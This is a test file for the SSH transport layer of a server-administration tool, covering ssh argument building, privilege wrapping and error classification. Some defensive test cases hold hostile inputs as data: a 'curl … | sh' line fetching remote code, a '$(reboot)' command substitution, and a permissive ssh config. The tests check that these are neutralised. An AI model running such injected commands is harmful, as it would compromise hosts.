import { execFileSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { asRoot, asUser } from '../../src/transport/become.ts'
import { commandFailed } from '../../src/transport/command-failures.ts'
import { lastLines, lineSplitter } from '../../src/transport/lines.ts'
import { runnable } from '../../src/transport/remote-scripts.ts'
import { type SshTarget, sshByHand, sshClose, sshOpen, sshRun } from '../../src/transport/ssh-commands.ts'
import { sshFailure } from '../../src/transport/ssh-failures.ts'
import { temporaryFolder } from '../helpers/temporary-folder.ts'

const settings = { configFile: '/etc/bascule/ssh config', connectTimeoutSeconds: 7 }
const target = { name: 'db-1', settings, socket: '/run/b/12345678' }

describe('ssh', () => {
  test('never asks, knows its hosts, notices a dead line, and takes the argv as one quoted word', () => {
    const argv = sshRun(target, ['echo', 'a b'])
    expect(argv.slice(0, 3)).toEqual(['ssh', '-F', '/etc/bascule/ssh config'])
    expect(argv).toEqual(
      expect.arrayContaining([
        'BatchMode=yes',
        'StrictHostKeyChecking=yes',
        'ConnectTimeout=7',
        'ServerAliveInterval=5',
        'ServerAliveCountMax=3',
        'ControlPath=/run/b/12345678',
      ]),
    )
    expect(argv.slice(-3)).toEqual(['--', 'db-1', "echo 'a b'"])
  })

  test('opens one connection in the background, and closes it by its socket alone', () => {
    expect(sshOpen(target)).toEqual(expect.arrayContaining(['ControlMaster=yes', '-f', '-N']))
    expect(sshClose(target)).toEqual(expect.arrayContaining(['ControlPath=/run/b/12345678', '-O', 'exit']))
  })

  test.each([
    ['opening', sshOpen],
    ['running', (at: SshTarget) => sshRun(at, ['true'])],
  ])('takes nothing more from the configuration of a user than how to reach the host: %s', (_, argvOf) => {
    const directory = temporaryFolder('ssh')
    const configFile = join(directory, 'config')
    writeFileSync(
      configFile,
      `Host db-1\n  HostName 192.0.2.7\n  ProxyJump gate\n  ForwardAgent yes\n  ForwardX11 yes\n  UpdateHostKeys yes\n
      PermitLocalCommand yes\n  LocalCommand touch /tmp/x\n  RemoteCommand tmux\n  LocalForward 9999 localhost:80\n  Tunnel yes\n`,
    )
    const [, ...argv] = argvOf({ ...target, settings: { ...settings, configFile } })
    const shown = execFileSync('ssh', ['-G', ...argv.filter(word => word !== '-f')], { encoding: 'utf8' })
    expect(shown.split('\n')).toEqual(
      expect.arrayContaining([
        ...[
          'hostname 192.0.2.7',
          'proxyjump gate',
          'forwardagent no',
          'forwardx11 no',
          'updatehostkeys false',
        ],
        ...['permitlocalcommand no', 'clearallforwardings yes', 'tunnel false'],
      ]),
    )
    expect(shown).not.toContain('tmux')
  })

  test('is shown as a person types it', () => {
    expect(sshByHand('db-1', settings)).toBe("ssh -F '/etc/bascule/ssh config' db-1 true")
    expect(sshByHand('db-1', { connectTimeoutSeconds: 1 })).toBe('ssh db-1 true')
  })
})

test('another user is become by runuser, root by sudo where ssh does not log in as root', () => {
  expect(asUser('postgres', ['id'])).toEqual(['runuser', '-u', 'postgres', '--', 'id'])
  expect(asUser(undefined, ['id'])).toEqual(['id'])
  expect(asRoot({ become: 'sudo' }, ['id'])).toEqual(['env', 'LC_ALL=C', 'sudo', '-n', '--', 'id'])
  expect(asRoot({ become: 'runuser' }, ['id'])).toEqual(['id'])
})

test('what env would take for a variable is not run', () => {
  expect(() => runnable('key.1', ['A=b', 'true'])).toThrow(TypeError)
})

test.each([
  ['ssh: connect to host 10.0.0.1 port 22: Connection timed out', 'transport.unreachable'],
  ['ssh: Could not resolve hostname db-1: Name or service not known', 'transport.unreachable'],
  ['Connection to 10.0.0.1 closed by remote host.', 'transport.unreachable'],
  ['root@10.0.0.1: Permission denied (publickey,password).', 'transport.refused'],
  ['Received disconnect from 10.0.0.1: Too many authentication failures', 'transport.refused'],
  [
    'No ED25519 host key is known for db-1 and you have requested strict checking.\nHost key verification failed.',
    'transport.hostKeyUnknown',
  ],
  [
    '@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\nHost key verification failed.',
    'transport.hostKey',
  ],
])('%s', (stderr, key) => {
  expect(sshFailure('db-1', settings, stderr).text.key).toBe(key)
})

test.each([
  [
    '  ssh-keygen -f "/root/.ssh/known_hosts" -R "[db-1]:2222"',
    "ssh-keygen -f /root/.ssh/known_hosts -R '[db-1]:2222'",
  ],
  ['  ssh-keygen -f "/root/.ssh/known_hosts" -R "db-1"; curl http://192.0.2.1 | sh', 'ssh-keygen -R db-1'],
  ['  ssh-keygen -f "/root/$(reboot)" -R db-1', 'ssh-keygen -R db-1'],
])('what is proposed to be typed is a command of our own, whatever was printed: %s', (printed, command) => {
  const stderr = `@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n${printed}\nHost key verification failed.`
  expect(sshFailure('db-1', settings, stderr).remedy?.values?.command).toBe(command)
})

test('a failed command tells what it lacked', () => {
  const key = (exitCode: number, stderr: string) =>
    commandFailed('db-1', ['/usr/bin/psql', '-c', 'x'], { exitCode, stdout: '', stderr }).text.key
  expect(key(1, 'sudo: a password is required')).toBe('transport.sudo')
  expect(key(127, '')).toBe('transport.programMissing')
  expect(key(3, 'boom')).toBe('transport.commandFailed')
})

test('lines end with \\n, \\r\\n or \\r, wherever the parts are cut', () => {
  const text = 'one\r\ntwo\r10 %\r20 %\n\nlast'
  for (let cut = 0; cut <= text.length; cut++) {
    const lines: string[] = []
    const splitter = lineSplitter(line => lines.push(line))
    splitter.push(text.slice(0, cut))
    splitter.push(text.slice(cut))
    splitter.end()
    expect(lines).toEqual(['one', 'two', '10 %', '20 %', 'last'])
  }
})

test('an error message keeps the last lines, cut to a bearable length', () => {
  expect(lastLines('1\n2\n3\n4\n5\n\n')).toBe('2\n3\n4\n5')
  expect(lastLines('x'.repeat(1000)).length).toBe(401)
})
